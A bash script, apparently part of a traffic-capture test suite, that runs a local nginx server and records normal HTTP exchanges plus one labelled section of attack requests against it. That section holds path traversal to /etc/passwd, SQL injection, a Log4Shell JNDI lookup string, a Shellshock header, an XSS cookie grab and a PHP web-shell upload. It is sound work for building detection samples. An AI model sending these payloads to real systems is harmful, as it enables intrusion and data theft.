#!/usr/bin/env bash
# Records HTTP/1.1 between curl and nginx: ordinary requests, then attacks. Install: nginx-light curl
INSTALL="install nginx-light and curl"
. "$(dirname "$0")/lib.sh"
need nginx curl

mkdir -p "$work/www/images" "$work/www/upload"
printf '<html><head><title>Example</title></head><body>%s</body></html>\n' "$(seq -s ' ' 400)" >"$work/www/index.html"
printf 'plain text of a small file\n' >"$work/www/hello.txt"
head -c 3000 /dev/zero | tr '\0' 'x' >"$work/www/images/picture.bin"
cat >"$work/nginx.conf" <<CONF
daemon off; master_process off; user root; pid $work/nginx.pid; error_log $work/error.log; worker_processes 1;
events { worker_connections 64; }
http {
  access_log off; server_tokens on; client_body_temp_path $work/body; proxy_temp_path $work/proxy;
  fastcgi_temp_path $work/fastcgi; uwsgi_temp_path $work/uwsgi; scgi_temp_path $work/scgi;
  gzip on; gzip_min_length 100; gzip_types text/plain;
  types { text/html html; text/plain txt; application/octet-stream bin; }
  server {
    listen $server_v4:80; listen [$server_v6]:80;
    root $work/www;
    location /form { return 200 "thank you\n"; }
    location /moved { return 302 /hello.txt; }
    # nginx passes a body of unknown length on in chunks
    location /chunked { proxy_pass http://127.0.0.1:8081; proxy_http_version 1.1; proxy_buffering off; }
    location /cgi-bin/ { return 404; }
  }
}
CONF
daemon nginx -c "$work/nginx.conf"
wait_for 80
cat >"$work/chunks.py" <<'PY'
import http.server
class handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        for piece in (b"first piece, ", b"second piece, ", b"and the last\n"):
            self.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
        self.wfile.write(b"0\r\n\r\n")
http.server.HTTPServer(("127.0.0.1", 8081), handler).serve_forever()
PY
daemon python3 "$work/chunks.py"
wait_for 8081

fetch() {
  client curl -s --max-time 10 -H 'Host: www.example.com' -A 'Mozilla/5.0 (X11; Linux x86_64)' "$@" >/dev/null || true
}
site=http://$server_v4

record http-plain
fetch $site/ $site/hello.txt $site/images/picture.bin
fetch $site/moved
fetch -I $site/hello.txt
fetch $site/nothing-here
fetch -d 'name=Ada&comment=hello+there' $site/form
fetch -F 'file=@'"$work/www/hello.txt"';filename=hello.txt' $site/form
stop_recording

record http-gzip
fetch --compressed $site/
stop_recording

record http-chunked
fetch $site/chunked
fetch -H 'Transfer-Encoding: chunked' -d 'sent in pieces' $site/form
stop_recording

record http-ipv6
fetch -g "http://[$server_v6]/hello.txt"
stop_recording

# One connection each, so that each attack is a flow of its own.
record http-attacks
fetch --path-as-is "$site/images/../../../../../../etc/passwd"
fetch --path-as-is "$site/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh" -d 'echo; id'
fetch "$site/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-"
fetch "$site/products?id=1;DROP%20TABLE%20users"
fetch -H 'X-Api-Version: ${jndi:ldap://198.51.100.66:1389/a}' $site/
fetch -A '() { :; }; /bin/bash -c "cat /etc/passwd"' $site/cgi-bin/status
fetch "$site/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"
fetch -A 'sqlmap/1.7.2#stable (https://sqlmap.org)' "$site/products?id=1"
fetch -d '<?php system($_GET["cmd"]); ?>' "$site/upload/shell.php"
fetch "$site/wp-login.php?log=admin&pwd=admin"
stop_recording
